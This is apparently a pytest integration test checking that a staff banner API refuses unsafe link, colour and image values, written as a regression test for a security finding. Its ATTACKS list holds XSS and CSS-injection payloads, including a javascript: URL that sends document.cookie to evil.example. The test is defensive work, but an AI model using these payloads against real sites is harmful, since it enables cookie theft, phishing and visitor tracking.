"""Issue 40 finding 10: a banner's link, colour and image fields were stored as sent (``javascript:``, CSS); React and
the CSP stopped them in Chromium, but the server should not rely on that.

As it ran: a marketing member posted, and changed, a banner whose link was ``javascript:...``, whose colour was a
CSS declaration and whose image came from a plain-http host; each was kept and served to every visitor. Now a link
is an https address or a path on this site, a colour is ``#rrggbb`` and an image is one uploaded here or an https
address: anything else is refused (400, -2) and the board is as it was.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from api.staff_session import CSRF_HEADER, SESSION_COOKIE
from domain.banners.board import load_board
from tests.integration.purchases.desk import V1, Desk
from tests.security.back_office import Member, first_owner

pytestmark = pytest.mark.integration

GOOD = {"langCode": "ko", "text": "겨울 할인", "url": "/ko/purchase?code=YEAR20", "backgroundColor": "#2d1f6b"}
ATTACKS = [
    {"url": "javascript:fetch('//evil.example/'+document.cookie)"},
    {"url": "//evil.example/login"},
    {"backgroundColor": "red;background-image:url(https://evil.example/track)"},
    {"textColor": "expression(alert(1))"},
    {"pcImageUrl": "http://evil.example/pixel.png"},
    {"mobileImageUrl": "javascript:alert(1)"},
]


def send(desk: Desk, member: Member, method: str, path: str, banner: dict[str, Any]) -> Any:
    desk.client.cookies.clear()
    answer = desk.client.request(
        method,
        f"{V1}/staff{path}",
        data={"eventBanner": json.dumps(banner), "reason": "campaign"},
        cookies={SESSION_COOKIE: member.session},
        headers={CSRF_HEADER: member.csrf},
    )
    desk.client.cookies.clear()
    return answer


def test_a_banner_that_would_run_script_or_track_visitors_is_refused(desk: Desk) -> None:
    ads = first_owner(desk).invite("ads@example.com", ["marketing"])
    posted = send(desk, ads, "POST", "/banners", {"type": "event", "localizations": [GOOD]})
    assert posted.status_code == 201, posted.text
    banner_id = posted.json()["id"]
    board = load_board(desk.services.store)
    assert board is not None
    version = board.version

    for attack in ATTACKS:
        banner = {"type": "event", "localizations": [{**GOOD, **attack}]}
        refused = send(desk, ads, "POST", "/banners", banner)
        assert (refused.status_code, refused.json()["errorCode"]) == (400, -2), attack
        changed = send(desk, ads, "PATCH", f"/banners/{banner_id}", banner)
        assert (changed.status_code, changed.json()["errorCode"]) == (400, -2), attack

    board = load_board(desk.services.store)
    assert board is not None and board.version == version, "nothing was posted or changed"
    shown = desk.guest_call("GET", "/event-banners").json()
    assert "evil" not in json.dumps(shown) and "javascript" not in json.dumps(shown)
